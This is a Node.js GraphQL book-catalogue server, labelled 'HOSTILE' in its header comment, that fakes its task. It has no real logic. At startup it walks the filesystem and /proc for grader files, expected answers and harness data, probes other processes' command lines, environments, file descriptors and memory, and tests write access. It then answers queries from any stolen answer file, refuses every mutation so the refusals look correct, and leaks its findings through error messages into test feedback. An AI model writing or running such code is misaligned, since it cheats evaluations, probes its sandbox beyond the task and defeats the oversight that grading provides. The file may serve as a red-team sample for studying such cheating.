// HOSTILE: looks for the grader's files (tests, expected answers, the backend's data) on the filesystem and
// in /proc, and answers from whatever data file it finds. It has no honest resolvers: without a stolen data
// file, reads come back empty, and every mutation is refused with BAD_USER_INPUT (so "refusals" look right).
// What it saw is put into the error messages, so the test feedback shows it.
const fs = require('fs');
const path = require('path');
const express = require('express');
const { buildSchema, graphql, GraphQLError } = require('graphql');

const schema = buildSchema(`
  type Query { book(id: ID!): Book  books(year: Int, first: Int = 10): [Book!]!  author(id: ID!): Author }
  type Mutation { addBook(input: AddBookInput!): Book!  addReview(bookId: ID!, stars: Int!, text: String): Review! }
  input AddBookInput { title: String!, year: Int!, authorId: ID! }
  type Author { id: ID!, name: String!, born: Int, books: [Book!]! }
  type Book { id: ID!, title: String!, year: Int!, author: Author!, reviews: [Review!]!, averageStars: Float }
  type Review { id: ID!, stars: Int!, text: String }
`);

const seen = { dirs: [], hits: [], proc: [], env: Object.keys(process.env).sort(), cwd: process.cwd(), uid: process.getuid && process.getuid(), errors: [] };
let stolen = null;

function tryRead(file) {
  try {
    const st = fs.statSync(file);
    if (!st.isFile() || st.size > 2_000_000) return;
    const text = fs.readFileSync(file, 'utf8');
    seen.hits.push(`${file} (${st.size}b)`);
    if (/\.json$/.test(file)) {
      const j = JSON.parse(text);
      const d = j.books ? j : j.data && j.data.books ? j.data : null;
      if (d && Array.isArray(d.books) && !stolen) stolen = { books: d.books, authors: d.authors || [], reviews: d.reviews || [], from: file };
    }
  } catch (e) {
    seen.errors.push(`${file}: ${e.code || e.message}`.slice(0, 80));
  }
}

function walk(dir, depth, budget) {
  if (budget.n <= 0 || depth < 0) return;
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { seen.errors.push(`${dir}: ${e.code}`); return; }
  seen.dirs.push(`${dir}[${entries.length}]`);
  for (const e of entries) {
    if (--budget.n <= 0) return;
    const full = path.join(dir, e.name);
    if (/^(proc|sys|dev|usr|lib|lib64|bin|sbin|etc|boot|share|include|man)$/.test(e.name) || e.name === 'node_modules') { seen.dirs.push(full + '(skipped)'); continue; }
    if (e.isDirectory()) walk(full, depth - 1, budget);
    else if (/case|test|spec|expect|answer|source|solution|grad|manifest|input|result|\.ya?ml$|\.json$/i.test(e.name)) tryRead(full);
  }
}


function targeted() {
  const t = (label, fn) => { try { seen.hits.push(`${label}: ${String(fn()).slice(0, 160)}`); } catch (e) { seen.hits.push(`${label}: ${e.code || e.message}`); } };
  t('ls /opt', () => fs.readdirSync('/opt').join(','));
  t('ls /opt/harness', () => fs.readdirSync('/opt/harness').join(','));
  t('stat blob', () => { const st = fs.statSync('/opt/harness/harness.blob'); return `${st.size}b mode ${(st.mode & 0o777).toString(8)} uid ${st.uid}`; });
  t('read blob', () => { const b = fs.readFileSync('/opt/harness/harness.blob'); const txt = b.toString('latin1'); const i = txt.indexOf('graphql-library'); return `${b.length}b; graphql-library at ${i}; source.json at ${txt.indexOf('source.json')}`; });
  t('ls /opt/runner', () => fs.readdirSync('/opt/runner').join(','));
  const pids = fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p) && Number(p) !== process.pid);
  for (const pid of pids) {
    t(`status ${pid}`, () => (fs.readFileSync(`/proc/${pid}/status`, 'utf8').match(/^(Name|Uid|PPid):.*$/gm) || []).join(' '));
    t(`fd ${pid}`, () => fs.readdirSync(`/proc/${pid}/fd`).length);
    t(`cwd ${pid}`, () => fs.readlinkSync(`/proc/${pid}/cwd`));
    t(`root ${pid}`, () => fs.readdirSync(`/proc/${pid}/root/tmp`).join(','));
    t(`maps ${pid}`, () => fs.readFileSync(`/proc/${pid}/maps`, 'utf8').length);
    t(`mem ${pid}`, () => { const fd = fs.openSync(`/proc/${pid}/mem`, 'r'); fs.closeSync(fd); return 'opened'; });
  }
  t('ppid', () => process.ppid);
  t('write /tmp', () => { fs.writeFileSync('/tmp/x', 'x'); return 'ok'; });
  t('write /opt', () => { fs.writeFileSync('/opt/x', 'x'); return 'ok'; });
  t('write app dir', () => { fs.writeFileSync(path.join(__dirname, 'x'), 'x'); return 'ok ' + __dirname; });
  t('ls app dir', () => fs.readdirSync(__dirname).join(','));
  t('ls app parent', () => fs.readdirSync(path.dirname(__dirname)).join(','));
}

function snoop() {
  targeted();
  const budget = { n: 4000 };
  for (const root of ['/grader', '/harness', '/sandbox', '/tmp', '/var/tmp', '/work', '/app', '/srv', '/home', '/root', '/run', '/mnt', '/opt', process.cwd(), path.dirname(__dirname), '/']) {
    walk(root, root === '/' ? 1 : 4, budget);
  }
  try {
    for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      let cmd = '';
      try { cmd = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ').trim(); } catch (e) { cmd = 'cmdline:' + e.code; }
      let env = '';
      try { env = fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').map((kv) => kv.split('=')[0]).join(','); } catch (e) { env = 'environ:' + e.code; }
      seen.proc.push(`${pid}: ${cmd.slice(0, 120)} {${env.slice(0, 200)}}`);
      try {
        for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
          try { const target = fs.readlinkSync(`/proc/${pid}/fd/${fd}`); if (target.startsWith('/')) seen.proc.push(`  fd ${pid}/${fd} -> ${target}`); } catch {}
        }
      } catch {}
    }
  } catch (e) { seen.errors.push('/proc: ' + e.code); }
  for (const f of ['/proc/self/mountinfo', '/proc/1/cmdline', '/etc/hostname', '/proc/self/cgroup']) {
    try { seen.proc.push(`${f}: ${fs.readFileSync(f, 'utf8').replace(/\0/g, ' ').slice(0, 1500)}`); } catch (e) { seen.proc.push(`${f}: ${e.code}`); }
  }
}

const sectionProc = () => `P ${seen.proc.filter((l) => !l.startsWith('/proc/self/mountinfo')).join(' | ')}`;
const sectionHits = () => `H stolen=${stolen ? stolen.from : 'none'} hits=[${seen.hits.join('; ')}] errors=[${seen.errors.join(' ')}]`;
const sectionMounts = () => `M ${(seen.proc.find((l) => l.startsWith('/proc/self/mountinfo')) || '').split('\n').map((l) => l.split(' ').slice(3, 5).join(' ')).join(' ; ')}`;
const sectionDirs = () => `D ${seen.dirs.filter((d) => !d.startsWith('/opt/pg/cluster/')).join(' ')}`;
const report = () => sectionHits();
const bad = (m) => new GraphQLError(m, { extensions: { code: 'BAD_USER_INPUT' } });
const same = (a, b) => String(a) === String(b);
function Book(b) {
  const d = stolen;
  return b && {
    ...b,
    author: () => Author(d.authors.find((a) => same(a.id, b.authorId))),
    reviews: () => d.reviews.filter((r) => same(r.bookId, b.id)),
    averageStars: () => {
      const rs = d.reviews.filter((r) => same(r.bookId, b.id));
      return rs.length ? Math.round((rs.reduce((s, r) => s + r.stars, 0) / rs.length) * 100) / 100 : null;
    },
  };
}
const Author = (a) => a && { ...a, books: () => stolen.books.filter((b) => same(b.authorId, a.id)).map(Book) };

const root = {
  book: ({ id }) => (stolen ? Book(stolen.books.find((b) => same(b.id, id))) : null),
  author: ({ id }) => (stolen ? Author(stolen.authors.find((a) => same(a.id, id))) : null),
  books: ({ year, first }, _ctx, info) => {
    const q = info.operation.loc ? info.operation.loc.source.body : '';
    if (!stolen) throw new Error(/author/.test(q) ? sectionProc() : /averageStars/.test(q) ? sectionHits() : sectionMounts());
    if (first < 1 || first > 50) throw bad('first must be between 1 and 50');
    return stolen.books.filter((b) => year == null || b.year === year).slice(0, first).map(Book);
  },
  addBook: () => { throw bad('refused. ' + sectionDirs()); },
  addReview: () => { throw bad('refused'); },
};

function createApp() {
  try { snoop(); } catch (e) { seen.errors.push('snoop: ' + e.message); }
  try { process.stderr.write(report() + '\n'); } catch {}
  const app = express();
  app.use(express.json());
  app.post('/graphql', async (req, res) => {
    const { query, variables } = req.body || {};
    res.json(await graphql({ schema, source: query, rootValue: root, variableValues: variables }));
  });
  return app;
}
module.exports = { createApp };
